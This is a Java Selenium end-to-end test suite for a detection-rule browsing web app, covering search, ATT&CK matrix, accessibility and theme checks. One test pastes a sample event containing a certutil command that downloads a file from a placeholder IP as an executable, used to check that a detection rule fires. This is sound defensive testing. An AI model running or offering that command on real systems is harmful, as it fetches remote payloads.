package io.rulescope.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.condition.EnabledIf;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.boot.test.context.SpringBootTest;


/**
 * The product as a person uses it, in headless Chromium: search for a technique, open the rule, follow a corpus
 * count, use the keyboard shortcut and the copy button. Any console error or CSP violation fails the test, and
 * axe-core must find no serious or critical accessibility violation. Screenshots land in target/screenshots.
 */
@Tag("browser")
@EnabledIf(value = "chromiumPresent", disabledReason = "Debian's chromium and chromium-driver are not installed; .ci/run installs them")
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class BrowserEndToEndTest extends BrowserTest {

    static boolean chromiumPresent() {
        return Chromium.present();
    }

    @BeforeEach
    void catalogLoaded() throws InterruptedException {
        assertThat(ingest.awaitDone(Duration.ofSeconds(60))).isTrue();
    }

    private void screenshot(String name) throws IOException {
        Chromium.screenshot(driver, name);
    }

    private static void noConsoleErrors(String page) {
        Chromium.noConsoleErrors(driver, page);
    }

    private static void accessible(String page) {
        Chromium.accessible(driver, page);
    }

    @Test
    @Order(1)
    void searchingForATechniqueLeadsToTheRuleAndItsAnatomy() throws IOException {
        driver.get(url("/"));
        screenshot("home");
        accessible("home");
        noConsoleErrors("home");

        WebElement box = driver.findElement(By.id("q"));
        box.sendKeys("T1119", Keys.ENTER);
        new WebDriverWait(driver, Duration.ofSeconds(10)).until(ExpectedConditions.urlContains("/search?q=T1119"));
        screenshot("search");
        accessible("search");
        noConsoleErrors("search");

        driver.findElement(By.linkText("AWS S3 Batch Operations Job Created")).click();
        new WebDriverWait(driver, Duration.ofSeconds(10)).until(ExpectedConditions.presenceOfElementLocated(By.id("stages")));
        assertThat(driver.findElement(By.id("attack")).getText()).contains("Collection", "T1119", "Automated Collection");
        assertThat(driver.findElement(By.id("stages")).getText()).contains("Stage 1", "eventName eq CreateJob");
        assertThat(driver.findElement(By.id("indicators")).getText()).contains("sourcetype", "aws:cloudtrail");
        screenshot("rule");
        accessible("rule");
        noConsoleErrors("rule");

        WebElement count = driver.findElement(By.cssSelector("#indicators a.corpus"));
        count.click();
        new WebDriverWait(driver, Duration.ofSeconds(10)).until(ExpectedConditions.urlContains("/indicators?"));
        assertThat(driver.findElement(By.tagName("h1")).getText()).contains("sourcetype");
        noConsoleErrors("indicators");
    }

    @Test
    @Order(2)
    void sentinelAndElasticRulePagesShowNestedStagesAndTheGuideAccessibly() throws IOException {
        driver.get(url("/rules/2f9d0a61-3b7e-4c55-8e1a-6d4b9c7f0e22"));
        assertThat(driver.findElements(By.cssSelector("ol.stages > li.sub"))).as("stages of the let bodies, indented").isNotEmpty();
        assertThat(driver.findElement(By.id("stages")).getText()).contains("sub-query", "summarize");
        // the screenshot shows the stages: a let statement and its body's stages indented under it
        ((org.openqa.selenium.JavascriptExecutor) driver).executeScript("document.getElementById('stage-2').scrollIntoView()");
        screenshot("rule-sentinel");
        accessible("sentinel rule");
        noConsoleErrors("sentinel rule");

        driver.get(url("/rules/5b8e1f0c-2d7a-4e39-9a61-0c4f7d2e8b13"));
        assertThat(driver.findElement(By.id("investigation")).getText()).contains("Triage and analysis", "MiniDump");
        assertThat(driver.findElement(By.id("indicators")).getText()).contains("process.command_line");
        ((org.openqa.selenium.JavascriptExecutor) driver).executeScript("document.getElementById('stages').scrollIntoView()");
        screenshot("rule-elastic");
        accessible("elastic rule");
        noConsoleErrors("elastic rule");
    }

    @Test
    @Order(2)
    void slashFocusesTheSearchBoxAndTheCopyButtonCopiesThePermalink() {
        driver.get(url("/rules/5dd2eb89-ae1a-413d-bab3-607ff2f0210d"));
        driver.executeCdpCommand("Browser.grantPermissions", Map.of("origin", url(""), "permissions",
                List.of("clipboardReadWrite", "clipboardSanitizedWrite")));
        driver.findElement(By.tagName("body")).sendKeys("/");
        assertThat(driver.switchTo().activeElement().getAttribute("id")).isEqualTo("q");

        driver.findElement(By.tagName("h1")).click();
        WebElement copy = driver.findElement(By.cssSelector("button[data-copy-path]:not([data-copy-title])"));
        copy.click();
        new WebDriverWait(driver, Duration.ofSeconds(5)).until(ExpectedConditions.textToBePresentInElement(copy, "Copied"));
        Object clipboard = driver.executeAsyncScript("const done = arguments[0]; navigator.clipboard.readText().then(done, e => done('error ' + e));");
        assertThat(clipboard).isEqualTo(url("/rules/5dd2eb89-ae1a-413d-bab3-607ff2f0210d"));
        noConsoleErrors("copy");
    }

    @Test
    @Order(3)
    void theMatrixRendersAndIsAccessible() throws IOException {
        driver.get(url("/attack"));
        assertThat(driver.findElement(By.cssSelector(".matrix")).getText()).contains("Reconnaissance", "Impact");
        // Sub-techniques come on demand: opening a cell fetches its list.
        WebElement cell = driver.findElement(By.cssSelector(".matrix details[data-t] summary"));
        cell.click();
        new WebDriverWait(driver, Duration.ofSeconds(5)).until(ExpectedConditions.presenceOfElementLocated(
                By.cssSelector(".matrix details[open] ul.subs li a[href^='/techniques/T']")));
        ((TakesScreenshot) driver).getScreenshotAs(OutputType.FILE);
        screenshot("matrix");
        accessible("matrix");
        noConsoleErrors("matrix");
    }

    @Test
    @Order(4)
    void pastingAnEventShowsTheRulesThatFireWithTheMatchedValuesMarked() throws IOException {
        driver.get(url("/match"));
        WebElement box = driver.findElement(By.id("event"));
        box.sendKeys("EventID=1\nChannel=Microsoft-Windows-Sysmon/Operational\nImage=C:\\Windows\\System32\\certutil.exe\n"
                + "CommandLine=certutil.exe -urlcache -split -f http://203.0.113.7/a.txt a.exe");
        driver.findElement(By.cssSelector(".match-form button[type=submit]")).click();
        new WebDriverWait(driver, Duration.ofSeconds(10)).until(ExpectedConditions.presenceOfElementLocated(By.cssSelector("ol.fires li.fire")));
        assertThat(driver.findElement(By.cssSelector("ol.fires")).getText()).contains("Certutil Used to Download a File");
        assertThat(driver.findElements(By.cssSelector("ol.fires mark"))).isNotEmpty();
        screenshot("match");
        accessible("match");
        noConsoleErrors("match");
        // The example links evaluate in one click; the rule's test page traces it.
        driver.findElement(By.linkText("test this rule")).click();
        assertThat(driver.findElement(By.tagName("h1")).getText()).isEqualTo("Test an event against this rule");
        accessible("rule test");
        noConsoleErrors("rule test");
    }

    private static final String COMPARE = "/compare/rules?a=d5f43b1a-7d93-45fd-8424-b595eb163184&b=5b220c85-d411-4f51-b7bf-45e2bfb9eb95";

    private static final List<String> PAGES = List.of("/", "/search?q=T1059", "/rules/5dd2eb89-ae1a-413d-bab3-607ff2f0210d", "/attack",
            "/match?example=certutil-download", "/techniques/T1059", "/rules", COMPARE);

    /** Opens every matrix cell's sub-technique list and waits until each has arrived. */
    private static void expandMatrix() {
        ((org.openqa.selenium.JavascriptExecutor) driver).executeScript(
                "document.querySelectorAll('.matrix details[data-t]').forEach(d => d.open = true)");
        new WebDriverWait(driver, Duration.ofSeconds(20)).until(d -> ((org.openqa.selenium.JavascriptExecutor) d).executeScript(
                "return [...document.querySelectorAll('.matrix details[data-t]')].every(x => x.querySelector('ul.subs'))").equals(Boolean.TRUE));
    }

    @Test
    @Order(5)
    void onAPhoneNoPageScrollsSidewaysAndEachIsAccessible() throws IOException {
        org.openqa.selenium.Dimension before = driver.manage().window().getSize();
        try {
            driver.manage().window().setSize(new org.openqa.selenium.Dimension(390, 844));
            for (String page : PAGES) {
                driver.get(url(page));
                Chromium.fitsTheWindow(driver, page);
                accessible("phone " + page);
                noConsoleErrors("phone " + page);
            }
            driver.get(url("/rules/5dd2eb89-ae1a-413d-bab3-607ff2f0210d"));
            screenshot("rule-phone");
            driver.get(url("/search?q=T1059"));
            screenshot("search-phone");
            driver.get(url(COMPARE));
            screenshot("compare-phone");
        } finally {
            driver.manage().window().setSize(before);
        }
    }

    @Test
    @Order(6)
    void theDarkThemeIsRememberedAndEveryPageAndTheExpandedMatrixPassContrastInBothThemes() throws IOException {
        driver.get(url("/attack"));
        expandMatrix();
        accessible("expanded matrix, light");
        WebElement toggle = driver.findElement(By.cssSelector(".theme-toggle"));
        assertThat(toggle.getText()).isEqualTo("Dark theme");
        toggle.click();
        assertThat(driver.findElement(By.tagName("html")).getAttribute("data-theme")).isEqualTo("dark");
        expandMatrix();
        accessible("expanded matrix, dark");
        screenshot("matrix-dark");
        for (String page : PAGES) {
            driver.get(url(page));
            assertThat(driver.findElement(By.tagName("html")).getAttribute("data-theme")).as("remembered on " + page).isEqualTo("dark");
            accessible("dark " + page);
            noConsoleErrors("dark " + page);
        }
        driver.get(url("/rules/5dd2eb89-ae1a-413d-bab3-607ff2f0210d"));
        screenshot("rule-dark");
        driver.get(url(COMPARE));
        screenshot("compare-dark");
        driver.findElement(By.cssSelector(".theme-toggle")).click();
        assertThat(driver.findElement(By.tagName("html")).getAttribute("data-theme")).isEqualTo("light");
    }

    @Test
    @Order(7)
    void comparingARuleWithASimilarOneShowsBothSidesAccessibly() throws IOException {
        driver.get(url("/rules/d5f43b1a-7d93-45fd-8424-b595eb163184"));
        driver.findElement(By.linkText("Compare with…")).click();
        driver.findElement(By.cssSelector("ul.pick-list a")).click();

        assertThat(driver.findElement(By.cssSelector(".compare-heads")).getText()).contains("PowerShell Launched With an Encoded Command",
                "Windows Encoded PowerShell Command Line");
        assertThat(driver.findElement(By.id("compare-indicators")).getText()).contains("2 shared");
        accessible("rule compare");
        noConsoleErrors("rule compare");
        screenshot("compare");
    }
}
